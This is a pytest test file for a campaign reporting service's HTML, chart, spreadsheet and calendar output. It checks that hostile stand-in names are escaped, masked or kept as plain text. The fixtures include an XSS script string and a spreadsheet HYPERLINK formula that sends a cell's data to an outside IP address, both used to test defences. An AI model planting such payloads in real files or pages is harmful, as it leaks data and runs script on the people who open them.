"""The summary report's views (HTML, charts, XLSX) and its calendar, from a stand-in read model.

The stand-in is deliberately hostile: place names and masked names carry ID numbers,
mobiles and ``<script>``, which must come out masked and escaped.
"""

from __future__ import annotations

import copy
import io
import itertools
import re
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any, ClassVar

import pytest
from matplotlib import font_manager
from openpyxl import load_workbook

from services.reporting import charts, render, spreadsheet
from services.reporting.contents import ReportData, gather
from services.reporting.figures import KINDS, Figures
from services.reporting.runs import write_files
from services.reporting.subscriptions import campaign_window, check_schedule, slots
from shared.config import CAMPAIGN_TZ, load
from shared.pii import redact

ID_NUMBER = re.compile(r"(?<!\d)\d{17}[\dXx](?!\d)|(?<!\d)\d{15}(?!\d)")
MOBILE = re.compile(r"(?<!\d)1[3-9]\d{9}(?!\d)")
EVIL = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://198.51.100.7/?"&A2,"详情")'


def figures_for(scope: str, as_of: datetime, seed: int = 0) -> Figures:
    """Deterministic figures that grow with time (so the period shows a change)."""
    day = (as_of - datetime(2016, 6, 25, 16, tzinfo=UTC)).days
    n = 100 + seed * 7
    reported = min(n, 20 + day * 2 + seed)
    return Figures(
        scope=scope,
        name={
            "city": "全市",
            "district:410303": "西工区",
            "district:410305": f"涧西区{EVIL}",
            "unit:U410303001": "西工区机关 410302195001010015",
            "unit:U410305001": "涧西区机关 13812348000",
            "community:410303001001": "王城社区",
            "district:410304": FORMULA,
        }.get(scope, scope),
        members=n,
        reported_in=reported,
        dual_registered=reported // 2,
        dual_paired=reported // 3 + seed,
        five_ones_complete=reported // 5,
        five_ones={k: reported // (i + 2) for i, k in enumerate(KINDS)},
        wishes={"published": 10 + day, "claimed": 5 + seed, "fulfilled": 3, "confirmed": 2},
        verified_hours=round(day * 3.5 + seed, 1),
        leading_cadres=4,
        leading_cadres_active=min(4, day // 7),
    )


class Source:
    """Stands in for contents.READ_MODEL (same functions, fixed answers)."""

    TREE: ClassVar[dict[tuple[str, str | None], list[str]]] = {
        ("city", "district"): ["district:410303", "district:410305"],
        ("city", "unit"): ["unit:U410300001"],
        ("district:410303", None): ["unit:U410303001"],
        ("district:410305", None): ["unit:U410305001"],
        ("district:410303", "community"): ["community:410303001001"],
        ("district:410305", "community"): ["community:410305001001"],
    }

    def figures(self, uow: Any, scope: str, as_of: datetime) -> Figures:
        return figures_for(scope, as_of, seed=sum(map(ord, scope)) % 5)

    def figures_many(self, uow: Any, scopes: list[str], as_of: datetime) -> dict[str, Figures]:
        return {s: self.figures(uow, s, as_of) for s in scopes}

    def places(self, uow: Any) -> Source:
        return self

    def children(self, scope: str, kind: str | None = None) -> list[str]:
        return self.TREE.get((scope, kind), [])

    def cadres_without_record(self, uow: Any, scope: str, as_of: datetime) -> list[Any]:
        return [
            ("U410305001", "涧西区机关 13812348000", "李*"),
            ("U410303001", f"西工区机关{EVIL}", "王*410302195001010015"),
        ]

    def highlights(self, uow: Any, scope: str, start: datetime, end: datetime) -> Any:
        return {
            "hours": [("张*", "单位 11010519491231002X", 12.5), (f"赵*{EVIL}", "单位", 8.0)],
            "wishes": [("钱*", "电话 138 1234 8000", 3.0)],
        }

    def daily_series(self, uow: Any, scope: str, start: date, end: date) -> list[Any]:
        days = [start + timedelta(days=n) for n in range((end - start).days)]
        return [
            (d, figures_for(scope, datetime(d.year, d.month, d.day, 16, tzinfo=UTC))) for d in days
        ]


START = datetime(2016, 7, 4, 0, 30, tzinfo=UTC)  # Monday 08:30 in Shanghai
END = datetime(2016, 7, 11, 0, 30, tzinfo=UTC)


def report(scope: str = "city") -> ReportData:
    return gather(
        None,  # type: ignore[arg-type]
        scope,
        START,
        END,
        threshold=0.6,
        campaign_start=date(2016, 6, 26),
        source=Source(),
    )


def assert_no_personal_data(text: str, where: str) -> None:
    assert not ID_NUMBER.search(text), f"{where}: unmasked ID number {ID_NUMBER.search(text)}"
    assert not MOBILE.search(text), f"{where}: unmasked mobile {MOBILE.search(text)}"


# --- the HTML -----------------------------------------------------------------------------


def test_the_html_report_escapes_script_in_names_and_masks_personal_data() -> None:
    html = render.html(report())
    assert "<script>" not in html
    assert "&lt;script&gt;" in html
    assert_no_personal_data(html, "report.html")
    assert "410***********0015" in html  # masked, not dropped
    assert "138****8000" in html


def test_the_html_report_has_every_section_in_chinese_for_a_phone() -> None:
    html = render.html(report())
    assert 'name="viewport"' in html and "max-width:640px" in html
    for heading in (
        "主要指标",
        "排名",
        "需督促",
        "领导干部",
        "微心愿进展",
        "“五个一”完成情况",
        "累计进度",
        "党员志愿者在行动",
    ):
        assert heading in html, heading
    assert 'src="ranking.png"' in html and 'src="progress.png"' in html
    assert "个百分点" in html  # the change since the period's start


def test_laggards_are_the_children_below_the_threshold() -> None:
    data = report()
    assert [f.scope for _, f in data.laggards] == [
        f.scope for _, f in data.ranked if f.dual_pairing_rate < 0.6
    ]
    assert data.laggards, "the stand-in has districts below 60 %"


def test_the_headline_change_is_the_end_figure_minus_the_start_figure() -> None:
    data = report()
    members = next(h for h in data.headline if h.key == "reported_in_rate")
    assert members.change == pytest.approx(
        data.after.reported_in_rate - data.before.reported_in_rate
    )


def test_the_sms_line_is_short_and_masked() -> None:
    line = report("unit:U410305001").sms()
    assert len(line) <= 70 and "双对接率" in line
    assert_no_personal_data(line, "sms")


def test_a_units_report_shows_no_wish_claim_rate_and_no_published_stage() -> None:
    data = report("unit:U410305001")
    claim = next(h for h in data.headline if h.key == "wish_claim_rate")
    assert claim.value is None and claim.change is None
    assert data.funnel[0] == ("已发布", None) and data.funnel[1][1] is not None
    html = render.html(data)
    row = re.search(r"微心愿认领率</td>\s*<td[^>]*>([^<]*)</td>", html)
    assert row and row.group(1) == "—"
    assert re.search(r"已发布</td><td[^>]*>—</td>", html)
    book = load_workbook(io.BytesIO(spreadsheet.workbook(data)))
    sheet = book["单位"]
    headers = [c.value for c in sheet[1]]
    assert sheet.cell(2, headers.index("微心愿认领率") + 1).value == "—"
    city = report("city")
    assert next(h for h in city.headline if h.key == "wish_claim_rate").value is not None


# --- the spreadsheet ----------------------------------------------------------------------


def test_the_workbook_has_a_sheet_per_level_with_frozen_headers_and_formats() -> None:
    book = load_workbook(io.BytesIO(spreadsheet.workbook(report())))
    assert book.sheetnames == ["说明", "全市", "县（市）区", "单位", "社区"]
    sheet = book["县（市）区"]
    assert sheet.freeze_panes == "A2"
    headers = [c.value for c in sheet[1]]
    assert headers[:3] == ["名次", "代码", "名称"]
    rate_col = headers.index("双对接率") + 1
    hours_col = headers.index("服务时长（小时）") + 1
    assert sheet.cell(2, rate_col).number_format == "0.0%"
    assert sheet.cell(2, hours_col).number_format == "0.0"
    assert sheet.column_dimensions["C"].width >= 20
    assert [sheet.cell(r, 1).value for r in range(2, sheet.max_row + 1)] == [1, 2]


def test_no_cell_of_the_workbook_holds_an_unmasked_id_number_or_mobile() -> None:
    book = load_workbook(io.BytesIO(spreadsheet.workbook(report())))
    for sheet in book.worksheets:
        for row in sheet.iter_rows(values_only=True):
            for value in row:
                if isinstance(value, str):
                    assert_no_personal_data(value, f"xlsx {sheet.title}")


def test_a_name_that_starts_with_an_equals_sign_stays_words_in_the_workbook() -> None:
    """A division named like a formula (typed into the directory) must not become one that
    sends the sheet's rows away when a leader clicks it."""
    data = report()
    data.levels["district"].append((3, figures_for("district:410304", END)))
    book = load_workbook(io.BytesIO(spreadsheet.workbook(data)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    named = [c for c in cells if c.value == FORMULA]
    assert named and all(c.data_type == "s" for c in named)
    assert not [c.coordinate for c in cells if c.data_type == "f"]


# --- the charts ---------------------------------------------------------------------------


def assert_cjk_file(font: Any) -> None:
    name = Path(str(font.get_file())).name
    assert any(mark in name for mark in charts.CJK_FILE_MARKS), name


def test_a_chinese_font_installed_after_matplotlib_listed_the_fonts_is_found(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Matplotlib keeps the font list it built on first use; the project's set-up may install
    the CJK font later. A font manager that has never seen it must still find it."""
    stale = copy.copy(font_manager.fontManager)
    stale.ttflist = [f for f in stale.ttflist if not cjk_entry(f.fname)]
    monkeypatch.setattr(font_manager, "fontManager", stale)
    charts.cjk_font.cache_clear()
    try:
        assert_cjk_file(charts.cjk_font())
    finally:
        charts.cjk_font.cache_clear()


def cjk_entry(path: str) -> bool:
    return any(mark in Path(path).name for mark in charts.CJK_FILE_MARKS)


def test_the_charts_are_pngs_drawn_in_a_chinese_font_with_masked_labels() -> None:
    assert_cjk_file(charts.cjk_font())
    for chart in (charts.ranking_chart(report()), charts.progress_chart(report())):
        assert chart.png.startswith(b"\x89PNG\r\n\x1a\n") and len(chart.png) > 5000
        for text in chart.texts:
            assert_no_personal_data(text, "chart")
    ranking = charts.ranking_chart(report("district:410305"))
    assert "各单位双对接率排名" in ranking.texts
    assert any("138****8000" in t for t in ranking.texts)


def test_the_report_folder_holds_the_html_beside_its_charts_and_the_workbook(
    tmp_path: Path,
) -> None:
    names = write_files(tmp_path / "r1", report(), {"html", "xlsx"})
    assert sorted(names) == ["progress.png", "ranking.png", "report.html", "report.xlsx"]
    assert sorted(p.name for p in (tmp_path / "r1").iterdir()) == sorted(names)
    assert [p.name for p in tmp_path.iterdir()] == ["r1"]  # no partial folder left behind


def test_redact_masks_ids_and_mobiles_in_any_spelling() -> None:
    text = redact("身份证410302195001010015，电话+86 138-1234-8000，旧证410302500101001")
    assert_no_personal_data(text.replace(" ", "").replace("-", ""), "redact")
    assert redact("社区410303001001") == "社区410303001001"  # a community code stays


# --- the calendar -------------------------------------------------------------------------


def local(when: datetime) -> str:
    return f"{when.astimezone(CAMPAIGN_TZ):%m-%d %H:%M}"


def test_campaign_default_is_weekly_then_daily_in_the_last_week_then_final() -> None:
    settings = load({})
    found = slots("campaign", settings)
    regular = [s for s in found if not s.final]
    assert [local(s.at) for s in regular] == [
        "06-27 08:30",
        "07-04 08:30",
        "07-11 08:30",
        "07-18 08:30",
        *(f"07-{d} 08:30" for d in range(25, 32)),
    ]
    start, close = campaign_window(settings)
    assert regular[0].start == start
    assert all(a.end == b.start for a, b in itertools.pairwise(regular))
    final = found[-1]
    assert final.final and local(final.at) == "08-01 08:30"
    assert (final.start, final.end) == (start, close)


def test_a_cron_schedule_is_read_in_shanghai_time_and_bad_ones_say_why() -> None:
    settings = load({})
    daily = slots("0 18 * * 5", settings)  # Fridays 18:00
    assert [local(s.at) for s in daily][:2] == ["07-01 18:00", "07-08 18:00"]
    assert check_schedule("  0 18 * * 5 ", settings) == "0 18 * * 5"
    mondays = slots("30 8 * * 1", settings)  # crontab's 1 is Monday (APScheduler 3's is Tuesday)
    assert local(mondays[0].at) == "06-27 08:30"
    for bad, why in (("0 25 * * *", "hour"), ("* * * * *", "more than"), ("weekly-ish", "cron")):
        with pytest.raises(ValueError, match=why):
            check_schedule(bad, settings)
